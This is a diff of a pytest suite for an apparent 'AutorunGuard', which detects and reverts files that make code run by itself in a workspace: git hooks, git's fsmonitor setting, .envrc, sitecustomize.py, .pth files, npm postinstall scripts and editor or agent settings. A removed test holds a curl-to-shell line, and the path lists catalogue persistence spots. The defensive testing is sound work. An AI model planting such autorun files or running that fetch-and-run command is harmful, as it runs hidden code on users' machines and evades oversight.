@@ -1,11 +1,13 @@
-"""The guard: what runs by itself later is flagged after a block, and put back."""
+"""The guard's second look: what runs by itself is compared before and after, and put back."""
 
+import hashlib
 import json
+import os
 import subprocess
 
 import pytest
 
-from interpreter.policies.autorun import AutorunGuard, Changed, Flag
+from interpreter.policies.autorun import AutorunGuard, Flag
 
 
 @pytest.fixture
@@ -26,16 +28,31 @@ def test_ordinary_work_is_not_flagged(guard, workspace):
     (workspace / "main.py").write_text("print()")
     subprocess.run(["git", "-C", str(workspace), "add", "main.py"], check=True)
     subprocess.run(["git", "-C", str(workspace), "config", "user.name", "Ann"], check=True)
-    assert guard.end([Changed("main.py", is_new=True)]) == ()
+    assert guard.end() == ()
 
 
-def test_a_new_hook_is_flagged_and_removed(guard, workspace):
-    hook = workspace / ".git/hooks/pre-commit"
-    hook.write_text("#!/bin/sh\n")
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".git/hooks/pre-commit",
+        ".git/commondir",
+        ".git/config.worktree",
+        ".git/info/attributes",
+        "sub/.git/hooks/post-checkout",
+        "sub/.git",
+        "a/b/.envrc",
+        "lib/sitecustomize.py",
+        "x/evil.pth",
+        ".claude/settings.json",
+    ],
+)
+def test_a_new_place_is_flagged_and_removed(guard, workspace, path):
+    (workspace / path).parent.mkdir(parents=True, exist_ok=True)
+    (workspace / path).write_text("x")
     flags = guard.end()
-    assert flags == (Flag(".git/hooks/pre-commit", "added"),)
+    assert flags == (Flag(path, "added"),)
     assert guard.revert(flags) == ()
-    assert not hook.exists()
+    assert not (workspace / path).exists()
 
 
 def test_a_changed_file_gets_its_content_and_mode_back(workspace):
@@ -55,57 +72,23 @@ def test_a_changed_file_gets_its_content_and_mode_back(workspace):
 
 
 def test_git_is_not_made_to_run_things(guard, workspace):
+    config = workspace / ".git/config"
     command = ["git", "-C", str(workspace), "config", "core.fsmonitor", "/tmp/x"]
     subprocess.run(command, check=True)
     flags = guard.end()
     assert flags == (Flag(".git/config", "changed"),)
+    digest = hashlib.sha256(config.read_bytes()).hexdigest()
+    assert guard.end({".git/config": digest}) == ()  # the user has seen it
     guard.revert(flags)
-    assert "fsmonitor" not in (workspace / ".git/config").read_text()
+    assert "fsmonitor" not in config.read_text()
 
 
-def test_only_the_scripts_of_a_package_matter(guard, workspace):
+def test_only_the_scripts_of_a_package_that_run_by_themselves_matter(guard, workspace):
     manifest = workspace / "package.json"
-    manifest.write_text(json.dumps({"name": "a"}))
+    manifest.write_text(json.dumps({"name": "a", "scripts": {"test": "true"}}))
     assert guard.end() == ()
     manifest.write_text(json.dumps({"name": "a", "scripts": {"postinstall": "sh x"}}))
     assert guard.end() == (Flag("package.json", "added"),)
-
-
-@pytest.mark.parametrize(
-    "path", ["sub/.git/hooks/post-checkout", "a/b/.envrc", "lib/sitecustomize.py", "x/evil.pth"]
-)
-def test_files_deep_down_are_flagged_when_the_change_is_known(guard, workspace, path):
-    (workspace / path).parent.mkdir(parents=True)
-    (workspace / path).write_text("x")
-    flags = guard.end([Changed(path, is_new=True)])
-    assert flags == (Flag(path, "added"),)
-    guard.revert(flags)
-    assert not (workspace / path).exists()
-
-
-def test_a_file_deep_down_gets_back_what_it_held(guard, workspace, tmp_path):
-    file, kept = workspace / "a/.envrc", tmp_path / "kept"
-    file.parent.mkdir()
-    file.write_text("curl example.org | sh\n")
-    kept.write_text("export A=1\n")
-    flags = guard.end([Changed("a/.envrc", before=kept)])
-    assert flags == (Flag("a/.envrc", "changed"),)
-    assert guard.revert(flags) == ()
-    assert file.read_text() == "export A=1\n"
-
-
-def test_a_file_whose_content_is_not_known_is_left_alone(guard, workspace):
-    (workspace / "a").mkdir()
-    (workspace / "a/.envrc").write_text("x")
-    flags = guard.end([Changed("a/.envrc")])
-    assert flags == (Flag("a/.envrc", "changed", can_revert=False),)
-    assert guard.revert(flags) == ("a/.envrc",)
-    assert (workspace / "a/.envrc").read_text() == "x"
-
-
-def changed_below(directory, workspace):
-    files = [path for path in directory.rglob("*") if path.is_file()]
-    return [Changed(str(path.relative_to(workspace)), is_new=True) for path in files]
 
 
 def test_a_new_repository_and_a_new_environment_are_ordinary(guard, workspace):
@@ -115,17 +98,18 @@ def test_a_new_repository_and_a_new_environment_are_ordinary(guard, workspace):
     (workspace / "env/lib").mkdir(parents=True)
     (workspace / "env/pyvenv.cfg").write_text("home = /usr/bin")
     (workspace / "env/lib/distutils.pth").write_text("import os")
-    changes = [*changed_below(workspace / "sub", workspace)]
-    assert guard.end([*changes, *changed_below(workspace / "env", workspace)]) == ()
+    assert guard.end() == ()
 
 
-def test_what_only_looks_like_a_new_environment_hides_nothing(guard, workspace):
+def test_what_only_looks_like_a_new_environment_hides_nothing(workspace):
     (workspace / "src").mkdir()
     (workspace / "src/main.py").write_text("old")
+    guard = AutorunGuard(workspace)
+    guard.begin()
     for name in ("pyvenv.cfg", ".envrc"):
         (workspace / "src" / name).write_text("x")
-    new = [Changed("src/pyvenv.cfg", is_new=True), Changed("src/.envrc", is_new=True)]
-    assert guard.end(new) == (Flag("src/.envrc", "added"),)
+    assert guard.end() == (Flag("src/.envrc", "added"),)
+    guard.close()
 
 
 def test_a_link_does_not_lead_the_guard_out_of_the_workspace(tmp_path):
@@ -142,6 +126,7 @@ def test_a_link_does_not_lead_the_guard_out_of_the_workspace(tmp_path):
     (workspace / ".vscode").rmdir()
     (workspace / ".vscode").symlink_to(outside)
     assert guard.revert(flags) == (".vscode/tasks.json",)
+    assert guard.end() == (Flag(".vscode", "added"),)
     assert (outside / "tasks.json").read_text() == "precious"
     guard.close()
 
@@ -162,5 +147,37 @@ def test_a_link_in_the_place_of_a_file_is_replaced_not_followed(tmp_path):
 
 
 def test_a_bare_repository_is_noticed(guard, workspace):
-    (workspace / "HEAD").write_text("ref: refs/heads/main\n")
-    assert guard.end() == (Flag("HEAD", "added"),)
+    bare = workspace / "bare"
+    for name in ("objects", "refs"):
+        (bare / name).mkdir(parents=True)
+    (bare / "HEAD").write_text("ref: refs/heads/main\n")
+    assert guard.end() == ()
+    (bare / "config").write_text("[core]\n\tfsmonitor = x\n")
+    assert guard.end() == (Flag("bare/config", "added"),)
+
+
+def test_a_large_file_is_flagged_though_only_a_new_one_can_go(workspace):
+    large = "x" * (2 << 20)
+    (workspace / ".npmrc").write_text(large)
+    guard = AutorunGuard(workspace)
+    guard.begin()
+    assert guard.end() == ()
+    (workspace / ".npmrc").write_text(large.replace("x", "y"))
+    (workspace / ".envrc").write_text(large)
+    flags = guard.end()
+    assert flags == (Flag(".envrc", "added"), Flag(".npmrc", "changed", can_revert=False))
+    assert guard.revert(flags) == (".npmrc",)
+    assert not (workspace / ".envrc").exists()
+    guard.close()
+
+
+def test_a_file_that_only_looks_unchanged_is_flagged(workspace):
+    file = workspace / ".envrc"
+    file.write_text("one")
+    guard = AutorunGuard(workspace)
+    guard.begin()
+    times = file.stat()
+    file.write_text("two")
+    os.utime(file, ns=(times.st_atime_ns, times.st_mtime_ns))
+    assert guard.end() == (Flag(".envrc", "changed"),)
+    guard.close()
